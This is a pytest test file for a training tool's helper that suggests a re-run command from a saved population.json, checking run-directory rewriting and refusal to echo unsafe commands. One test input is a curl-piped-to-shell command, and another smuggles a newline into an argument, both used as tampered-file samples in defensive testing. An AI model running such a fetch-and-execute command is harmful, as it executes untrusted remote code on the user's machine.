"""The advice to train a population again names the directory it was given: a copied or moved population's
recorded command names the original's --run-dir, which --overwrite would move aside (an intact population)."""

from __future__ import annotations

import shlex

import pytest

from proxima import population_run


@pytest.mark.parametrize("recorded", [["--run-dir", "runs/popA"], ["--run-dir=runs/popA"], []])
def test_train_again_trains_into_the_directory_given(monkeypatch, tmp_path, recorded):
    command = ["proxima", "train", "CartPole-v1", "--seeds", "1-3", *recorded, "--total-timesteps", "4096"]
    monkeypatch.setattr(population_run, "read_population_doc", lambda run_dir: {"command": command})
    line = population_run._train_again(tmp_path / "popC")
    words = shlex.split(line.split("train it again: ", 1)[1].split(" (the old directory", 1)[0])
    assert "runs/popA" not in line and "--run-dir=runs/popA" not in words
    assert words[words.index("--run-dir") + 1] == str(tmp_path / "popC") and words.count("--run-dir") == 1
    assert words[:5] == ["proxima", "train", "CartPole-v1", "--seeds", "1-3"] and words[-1] == "--overwrite"
    assert "--total-timesteps" in words and words[words.index("--total-timesteps") + 1] == "4096"


@pytest.mark.parametrize("command", [
    ["sh", "-c", "curl x|sh"],  # another program a hand-edited population.json names
    ["proxima", "eval", "runs/p"],  # not a train
    ["proxima", "train", "x\ny"],  # a word a terminal shows escaped: pasted, another argument
    ["proxima", "train", "CartPole-v1", *["--seeds", "1-3"] * 60],  # past MAX_ECHOED_COMMAND
    ["proxima", "--run-dir"],
    "proxima train CartPole-v1",  # not a list
])
def test_train_again_echoes_only_a_short_proxima_train_command(monkeypatch, tmp_path, command):
    monkeypatch.setattr(population_run, "read_population_doc", lambda run_dir: {"command": command})
    line = population_run._train_again(tmp_path / "popC")
    assert line == (f"train it again: the command in {tmp_path / 'popC' / 'population.json'} with --overwrite "
                    "(the old directory is moved aside)")


@pytest.mark.parametrize("start, echoed", [(["proxima"], ["proxima"]), (["/opt/venv/bin/proxima"], ["proxima"]),
                                           (["python3.11", "-m", "proxima"], ["python", "-m", "proxima"])])
def test_train_again_echoes_each_way_of_running_proxima(monkeypatch, tmp_path, start, echoed):
    """Its program as the plain word, never the path recorded (was: /opt/venv/bin/proxima, python3.11 as recorded)."""
    command = [*start, "train", "CartPole-v1", "--seeds", "1-2"]
    monkeypatch.setattr(population_run, "read_population_doc", lambda run_dir: {"command": command})
    said = shlex.join([*echoed, *command[len(start):]])
    assert population_run._train_again(tmp_path).startswith(f"train it again: {said} --run-dir ")
